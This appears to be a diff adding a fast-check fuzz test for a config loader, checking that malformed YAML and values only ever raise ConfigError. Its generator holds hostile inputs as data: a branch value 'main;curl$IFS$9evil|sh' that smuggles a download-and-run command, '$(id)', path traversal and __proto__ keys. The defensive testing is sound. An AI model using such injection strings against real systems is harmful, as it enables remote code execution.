@@ -1,0 +1,80 @@
+/**
+ * Property test: fuzzed configs, in-process. Every failure of the loader is a ConfigError (one
+ * message per problem, no stack trace), never another exception.
+ */
+import * as fs from 'fs';
+import * as path from 'path';
+import fc from 'fast-check';
+import * as YAML from 'yaml';
+import { ConfigError, loadConfig, parseConfig } from '../../lib/config/load';
+import { ROOT, tmpDir } from './harness';
+
+const base = YAML.parse(fs.readFileSync(path.join(ROOT, 'platform.yaml'), 'utf8')) as Record<string, unknown>;
+const KEYS = ['clusterName', 'clusterHostname', 'git', 'flux', 'sops', 'acme', 'gitea', 'applicationDefinitions', 'apps', 'catalog', 'kommander', 'airgapped', 'helmRepositories', 'check', 'gardener', 'ingressCertificate', 'url', 'branch', 'mode', 'enabled', 'version', 'values', '__proto__', 'constructor', 'toString'];
+
+const hostileString = fc.oneof(
+  fc.string(),
+  fc.constantFrom('../..', '../../x', '/', '.', '', ' ', 'main;curl$IFS$9evil|sh', "a'b", '$(id)', '\u0000', 'https://t@h', 'ssh://git@h:22/x', '*', '&a', '🙂', 'a'.repeat(10_000)),
+);
+const leaf = fc.oneof(hostileString, fc.integer(), fc.double(), fc.boolean(), fc.constant(null));
+const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
+  node: fc.oneof({ depthSize: 'small', maxDepth: 4 }, leaf, fc.array(tie('node'), { maxLength: 4 }), fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string()), tie('node'), { maxKeys: 5 })),
+})).node;
+
+/** The example config with some paths replaced by fuzzed values. */
+const mutatedConfig = fc.array(fc.tuple(fc.array(fc.constantFrom(...KEYS), { minLength: 1, maxLength: 3 }), value), { minLength: 1, maxLength: 4 }).map((edits) => {
+  const cfg = structuredClone(base);
+  for (const [keys, v] of edits) {
+    let o: Record<string, unknown> = cfg;
+    for (const k of keys.slice(0, -1)) {
+      if (typeof o[k] !== 'object' || o[k] === null || Array.isArray(o[k])) Object.defineProperty(o, k, { value: {}, enumerable: true, writable: true, configurable: true });
+      o = o[k] as Record<string, unknown>;
+    }
+    Object.defineProperty(o, keys[keys.length - 1], { value: v, enumerable: true, writable: true, configurable: true });
+  }
+  return cfg;
+});
+
+function onlyConfigErrors(run: () => unknown): void {
+  try {
+    run();
+  } catch (e) {
+    if (!(e instanceof ConfigError)) throw new Error(`not a ConfigError: ${(e as Error)?.stack ?? e}`);
+    expect(e.problems.length).toBeGreaterThan(0);
+    expect(e.stack).toBe(`ConfigError: ${e.message}`);
+  }
+}
+
+describe('fuzzed configs', () => {
+  const dir = tmpDir('fuzz-');
+  fs.cpSync(path.join(ROOT, 'examples'), path.join(dir, 'examples'), { recursive: true });
+  fs.cpSync(path.join(ROOT, 'secrets'), path.join(dir, 'secrets'), { recursive: true });
+
+  test('every failure of parseConfig on a mutated config is a ConfigError', () => {
+    fc.assert(fc.property(mutatedConfig, (cfg) => onlyConfigErrors(() => parseConfig(cfg, dir))), { numRuns: 1000, seed: 10 });
+  });
+
+  test('every failure of parseConfig on an arbitrary value is a ConfigError', () => {
+    fc.assert(fc.property(value, (raw) => onlyConfigErrors(() => parseConfig(raw, dir))), { numRuns: 400, seed: 11 });
+  });
+
+  test('every failure of loadConfig on arbitrary text, and on mutated YAML, is a ConfigError', () => {
+    const file = path.join(dir, 'platform.yaml');
+    const text = fc.oneof(
+      fc.string({ maxLength: 400 }),
+      mutatedConfig.map((c) => YAML.stringify(c)),
+      fc.tuple(mutatedConfig, fc.nat(), fc.constantFrom('*', '&', '[', '{', '\t', ':', '- ', '"', '---\n', '!!binary ', '<<: *a\n')).map(([c, at, ins]) => {
+        const t = YAML.stringify(c);
+        const i = at % (t.length + 1);
+        return t.slice(0, i) + ins + t.slice(i);
+      }),
+    );
+    fc.assert(
+      fc.property(text, (t) => {
+        fs.writeFileSync(file, t);
+        onlyConfigErrors(() => loadConfig(file));
+      }),
+      { numRuns: 400, seed: 12 },
+    );
+  });
+});
